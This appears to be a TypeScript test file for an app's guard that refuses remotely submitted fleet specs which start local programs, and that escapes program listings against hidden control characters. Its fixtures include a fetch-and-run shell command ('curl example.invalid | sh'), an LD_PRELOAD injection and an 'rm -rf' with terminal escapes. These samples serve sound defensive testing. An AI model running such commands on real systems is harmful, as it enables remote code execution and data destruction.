import { describe, expect, it, vi } from 'vitest';
import {
  ContractClient,
  ContractError,
  ContractHost,
  createMemoryTransportPair,
  type CommandHandlers,
} from '../../../shared/contract/index.js';
import { FleetSpec } from '../../../shared/contract/model.js';
import { describeProgram, describePrograms, fleetPrograms, refuseCommandNodes, shellWord } from '../../../electron/engine/fleet-admission.js';

/** A host whose only live handler is fleet.start: any other call is a test mistake. */
function hostWithFleetStart() {
  const fleetStart = vi.fn((_params: unknown, _caller?: unknown) => ({}));
  const handlers = new Proxy({} as CommandHandlers, {
    get: (_target, name) => (name === 'fleet.start' ? fleetStart : () => Promise.reject(new Error(`${String(name)}: not in this test`))),
  });
  return { host: new ContractHost(handlers, () => () => undefined), fleetStart };
}

const program = { id: 'evil', kind: 'command', command: '/bin/sh', args: ['-c', 'curl example.invalid | sh'], env: { LD_PRELOAD: '/tmp/x.so' } };

describe('the contract refuses fleets that start programs', () => {
  it('names the command node, says where such a fleet can come from, and never reaches the handler', async () => {
    const { host, fleetStart } = hostWithFleetStart();
    const error = (await host.call('fleet.start', { fleet: { nodes: [{ id: 'k1' }, program] } }).catch((e: unknown) => e)) as ContractError;
    expect(error).toBeInstanceOf(ContractError);
    expect(error.code).toBe('invalid-params');
    expect(error.field).toBe('params.fleet.nodes.1.kind');
    expect(error.message).toMatch(/^params\.fleet\.nodes\.1\.kind: a command node starts a program of your own/);
    expect(error.message).toContain('firedrill serve --fleet FILE');
    expect(error.message).toContain('Open fleet file');
    expect(fleetStart).not.toHaveBeenCalled();
  });

  it('refuses a half-written command node for what it is, not for its missing fields', async () => {
    const { host, fleetStart } = hostWithFleetStart();
    const error = (await host.call('fleet.start', { fleet: { nodes: [{ id: 'x1', kind: 'command' }] } }).catch((e: unknown) => e)) as ContractError;
    expect(error.field).toBe('params.fleet.nodes.0.kind');
    expect(error.message).toContain('only the person at the machine');
    expect(fleetStart).not.toHaveBeenCalled();
  });

  it('refuses it the same over a message channel (the envelope IPC and the WebSocket carry)', async () => {
    const { host, fleetStart } = hostWithFleetStart();
    const [engineSide, pageSide] = createMemoryTransportPair();
    const end = host.connect(engineSide);
    const client = new ContractClient(pageSide, { timeoutMs: 5_000 });
    const error = (await client.request('fleet.start', { fleet: { nodes: [program] } } as never).catch((e: unknown) => e)) as ContractError;
    expect(error.code).toBe('invalid-params');
    expect(error.field).toBe('params.fleet.nodes.0.kind');
    expect(fleetStart).not.toHaveBeenCalled();
    end();
  });

  it('still takes a fleet of bundled nodes, and no fleet at all', async () => {
    const { host, fleetStart } = hostWithFleetStart();
    await host.call('fleet.start', { fleet: { name: 'pair', nodes: [{ id: 'k1' }, { id: 'k2', kind: 'bundled', role: 'standby' }] } });
    await host.call('fleet.start', {});
    expect(fleetStart).toHaveBeenCalledTimes(2);
    // A handler is called with the parsed params and who asked (classroom mode): the params are what is checked here.
    expect(fleetStart.mock.calls[0]?.[0]).toEqual({ fleet: FleetSpec.parse({ name: 'pair', nodes: [{ id: 'k1' }, { id: 'k2', kind: 'bundled', role: 'standby' }] }) });
  });

  it('refuseCommandNodes is the same lock for any other path: forbidden, naming the field', () => {
    expect(() => refuseCommandNodes({ nodes: [{ id: 'k1' }] })).not.toThrow();
    expect(() => refuseCommandNodes('not a fleet')).not.toThrow();
    try {
      refuseCommandNodes({ nodes: [{ id: 'k1' }, program] }, 'params.fleet');
      expect.unreachable();
    } catch (error) {
      expect(error).toMatchObject({ code: 'forbidden', field: 'params.fleet.nodes.1.kind' });
    }
  });
});

describe('showing the programs a fleet starts', () => {
  it('lists every command node, bare words bare, the rest quoted as a shell reads them', () => {
    const fleet = FleetSpec.parse({
      nodes: [
        { id: 'k1' },
        { id: 'web', kind: 'command', command: 'python3', args: ['-m', 'http.server', '{port}', '--bind', '127.0.0.1'] },
        program,
      ],
    });
    const programs = fleetPrograms(fleet);
    expect(programs.map((p) => p.nodeId)).toEqual(['web', 'evil']);
    expect(describePrograms('my-fleet.yaml', programs)).toEqual([
      "my-fleet.yaml starts 2 programs of its own on this machine (with your user's rights and environment):",
      '  web: python3 -m http.server {port} --bind 127.0.0.1',
      "  evil: /bin/sh -c 'curl example.invalid | sh'   [env: LD_PRELOAD=/tmp/x.so]",
    ]);
  });

  it('escapes what could hide a program on a terminal or in a dialog: escapes, returns, bidi overrides', () => {
    const hidden = describeProgram({
      nodeId: 'n\u001b[2J1',
      command: 'rm',
      args: ['-rf', '~\r/safe', '\u202Etxt.exe', "it's", '\u001b]0;pwned\u0007'],
      env: { 'A\nB': 'v' },
    });
    expect(hidden).toBe("n\\e[2J1: rm -rf $'~\\r/safe' $'\\u202etxt.exe' 'it'\\''s' $'\\e]0;pwned\\x07'   [env: $'A\\nB'=v]");
    // eslint-disable-next-line no-control-regex -- no control character may be left
    expect(hidden).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
  });

  it('shell words: empty, quotes and backslashes stay unambiguous', () => {
    expect(shellWord('')).toBe("''");
    expect(shellWord('a b')).toBe("'a b'");
    expect(shellWord('back\\slash\u0007')).toBe("$'back\\\\slash\\x07'");
    expect(shellWord("q'\u0000")).toBe("$'q\\'\\x00'");
  });
});
